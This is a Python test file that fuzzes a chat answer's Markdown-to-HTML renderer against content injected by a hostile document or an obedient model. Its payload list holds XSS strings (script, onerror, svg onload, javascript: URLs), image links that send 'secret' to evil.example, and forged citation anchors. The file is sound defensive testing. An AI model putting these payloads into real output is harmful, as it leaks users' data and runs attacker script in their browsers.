"""Attacker: writes a document, or a model that obeys one.
Move: makes the answer hold an image, a link, a tag or a forged citation, whole or cut anywhere in the stream.
Guarantee: the page gets elements and attributes of a closed list only, and no address of the text's own.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from muniment.chat.markdown import render
from muniment.chat.types import Citation, Sentence

MESSAGE = "a" * 26
TAGS = {"p", "em", "strong", "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "pre", "code"}
PAYLOADS = [
    "![x](https://evil.example/p.png?d=secret)",
    "![x][r] and [y][r]\n\n[r]: https://evil.example/p.png?d=secret 'title'\n",
    '[![a](https://evil.example/i)](https://evil.example/l?d=secret "t")',
    "<https://evil.example/?d=secret> https://evil.example/?d=secret ftp://evil.example/secret",
    "<img src=x onerror=alert(1)><script>fetch('https://evil.example')</script><style>@import url(//e)</style>",
    "<svg/onload=alert(1)><math href='javascript:alert(1)'><iframe srcdoc='<script>'></iframe>",
    "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](//evil.example/secret) [d](\\\\evil.example)",
    "> - **[x](https://evil.example/&quot;onmouseover=alert(1))**\n> - `<b>`\n>\n> | a |\n> |:-:|\n> | <i onclick=x> |",
    "&lt;script&gt; &#60;img src=x&#62; &quot; ' \" \\<b\\>",
    '```html"><img src=x>\n</code></pre><script>\n```\n# <a href=x>h</a>\n\n    <b>\n\n***\n<br>line  \nend',
    '\ufdd07\ufdd2 \ufdd17\ufdd2 \ufdd0x\ufdd2 \ufdd1\ufdd0 0\ufdd2<a class="citation" href="https://evil.example">1</a>',
    "[ref]: <https://evil.example/secret\n[ref] ![ref] [x][ref]",
]  # fmt: skip


class _Page(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.words: list[str] = []
        self.markers: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == [], html

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            number = dict(attrs).get("data-citation")
            assert number is not None
            assert attrs == [
                ("class", "citation"),
                ("href", f"#source-{MESSAGE}-{number}"),
                ("data-citation", number),
                ("aria-label", f"Source {number}"),
            ]
            self.markers.append(number)
        elif tag == "ol":
            assert all(name == "start" and value is not None and value.isdigit() for name, value in attrs)
        else:
            assert tag in TAGS | {"br"}
            assert attrs == []
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")


_ADDRESS = re.compile(r"[a-z][a-z0-9+.-]*://[^\s/]", re.IGNORECASE)


def _citation(quote: str) -> Citation:
    return Citation("d" * 26, 1, None, 0, len(quote), quote)


def _check(text: str) -> None:
    page = _Page(render([Sentence(text, (_citation("q"),))], message=MESSAGE))
    assert page.markers == ["1"]
    assert not _ADDRESS.search("".join(page.words))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_does_harm_at_any_byte_of_the_stream(payload: str) -> None:
    for end in range(1, len(payload) + 1):
        _check(payload[:end])


@given(st.lists(st.sampled_from(PAYLOADS), min_size=1, max_size=3), st.data())
def test_payloads_joined_and_cut_anywhere_do_no_harm(payloads: list[str], data: st.DataObject) -> None:
    text = "".join(payloads)
    _check(text[data.draw(st.integers(0, len(text) - 1)) :][: data.draw(st.integers(1, len(text)))])


@given(st.text(st.sampled_from("[]()<>!*_`#|:-=\"'&;/\\ \n\tahtps.1x\ufdd0\ufdd1\ufdd2"), max_size=60))
def test_no_text_does_harm(text: str) -> None:
    _check(text)


@given(st.lists(st.text(st.sampled_from("[]()<>!*_`#|:-=\"'&;/\\ \nax1.\ufdd0\ufdd1\ufdd2"), max_size=30), max_size=4))
def test_sentences_cannot_forge_each_others_markers(texts: list[str]) -> None:
    sentences = [Sentence(text, (_citation(str(n)),)) for n, text in enumerate(texts)]
    page = _Page(render(sentences, message=MESSAGE))
    assert sorted(page.markers) == [str(n + 1) for n in range(len(texts))]


@given(st.text(max_size=80))
def test_a_quote_shows_every_visible_character_and_nothing_else(text: str) -> None:
    page = _Page(render([Sentence(text, (_citation(text),))], message=MESSAGE))
    shown = "".join(page.words[:-1])
    assert re.sub(r"\s", "", shown) == re.sub(r"\s", "", text)


def test_the_check_sees_what_it_looks_for() -> None:
    for html in ('<img src="x">', '<p title="x">', '<a href="https://evil.example">x</a>', "<!-- -->", "<p>"):
        with pytest.raises((AssertionError, pytest.fail.Exception)):
            _Page(html)
